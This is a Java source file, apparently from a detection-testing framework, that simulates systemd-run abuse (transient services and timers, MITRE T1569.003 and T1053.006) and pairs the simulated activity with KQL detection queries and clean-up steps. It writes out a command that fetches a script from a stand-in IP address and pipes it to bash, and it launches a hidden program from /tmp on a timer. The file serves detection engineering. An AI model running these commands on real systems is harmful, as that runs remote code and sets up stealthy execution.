package org.conshelf.simulate;

/// Commands run as services that have no unit file.
final class SystemdRun {
    private static final String FETCH = "curl -fsSL http://203.0.113.66/p | bash";

    static final SimulatedTest TEST =
            SimulatedTest.attack(
                            "systemd-run",
                            "Commands run by systemd-run as transient services and a transient timer")
                    .on(SimulatedTest.Platform.LINUX)
                    .techniques("T1569.003", "T1053.006")
                    .behaviour(
                            """
                            systemd-run has systemd start a command as a service of its own, which leaves no unit file: first a shell
                            that fetches a script, then a program out of /tmp, a minute later by a transient timer. Both
                            processes are children of systemd, not of the shell.
                            """)
                    .signal(
                            "systemd-run is started with a shell's command.",
                            """
                            DeviceProcessEvents
                            | where FileName == "systemd-run" and ProcessCommandLine has "bash"
                            """)
                    .signal(
                            "systemd-run is started with a delay and a program in /tmp.",
                            """
                            DeviceProcessEvents
                            | where FileName == "systemd-run" and ProcessCommandLine has "--on-active" and ProcessCommandLine has "/tmp/"
                            """)
                    .signal(
                            "systemd tells of a unit run-….service, with the command as its description.",
                            """
                            Syslog
                            | where ProcessName == "systemd" and SyslogMessage startswith "Started" and SyslogMessage has "/bin/bash -c"
                            """)
                    .commands(
                            """
                            systemd-run /bin/bash -c 'curl -fsSL http://203.0.113.66/p | bash'
                            systemd-run --unit=man-index --on-active=60 /tmp/.man-index
                            """)
                    .cleanUp(
                            """
                            systemctl stop man-index.timer man-index.service
                            systemctl reset-failed
                            rm -f /tmp/.man-index
                            """)
                    .plays(stage -> RootShell.onEachHost(stage, SystemdRun::play));

    private SystemdRun() {}

    private static void play(RootShell shell) {
        var host = shell.host();
        shell.types("systemd-run", "/bin/bash", "-c", FETCH);
        var unit = "run-r" + host.stage().randomText("0123456789abcdef", 32) + ".service";
        host.started(unit, "/bin/bash -c " + FETCH);
        var bash = host.serviceProcess("/bin/bash", "-c", FETCH);
        host.run(bash, "curl", "-fsSL", "http://203.0.113.66/p");
        host.run(bash, "bash");
        host.ended(unit);
        host.stage().pass(20_000);
        shell.types("systemd-run", "--unit=man-index", "--on-active=60", "/tmp/.man-index");
        host.started("man-index.timer", "/tmp/.man-index");
        host.stage().pass(60_000);
        host.started("man-index.service", "/tmp/.man-index");
        host.serviceProcess("/tmp/.man-index");
        host.stage().pass(60_000);
        shell.types("systemctl", "stop", "man-index.timer", "man-index.service");
        host.stopped("man-index.service", "/tmp/.man-index");
    }
}
